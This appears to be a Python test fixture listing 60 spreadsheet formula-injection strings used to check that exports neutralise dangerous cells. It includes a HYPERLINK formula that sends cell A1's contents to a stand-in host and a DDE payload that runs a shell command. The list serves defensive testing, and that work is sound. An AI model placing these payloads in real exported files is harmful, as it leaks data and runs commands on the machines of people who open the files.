"""Texts that a spreadsheet might run, look up or mistake for a number: 60 of them, for every export."""

_COMMANDS = ("1+1", "SUM(A1:A9)", "A1", 'HYPERLINK("http://example.invalid?"&A1,"演示")', "cmd|'/C calc'!A0")
_BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋")
_FURTHER = (
    "#N/A",
    "1e5",
    "007",
    "'=1",
    '"=1',
    ";=1",
    "=",
    "<f>1</f>",
    "]]>",
    "{=1}",
)
PAYLOADS = [beginning + command for beginning in _BEGINNINGS for command in _COMMANDS] + list(_FURTHER)
